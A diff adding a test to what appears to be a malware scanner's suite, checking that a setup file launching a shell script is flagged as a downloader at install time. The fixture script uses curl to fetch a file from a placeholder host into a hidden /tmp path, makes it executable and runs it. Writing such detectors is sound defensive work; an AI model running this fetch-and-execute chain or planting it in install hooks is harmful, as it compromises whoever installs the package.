@@ -22,6 +22,12 @@ for (const [why, setup] of [
     assert.ok(reasons(setup, DROPPER).includes('downloader-command@install')));
 }
 
+test('follows a script that starts what it downloaded some lines before', () => {
+  const setup = "import os\nos.system('bash tools/up.sh')\n";
+  const script = 'OUT=/tmp/.u\ncurl -s https://collector.example.invalid/u -o $OUT\nchmod +x $OUT\n$OUT\n';
+  assert.ok(reasons(setup, script).includes('downloader-command@install'));
+});
+
 for (const [why, setup, script] of [
   ['that nothing starts', "print('tools')\n", DROPPER],
   ['of another name', "import os\nos.system('bash tools/cleanup.sh')\n", DROPPER],
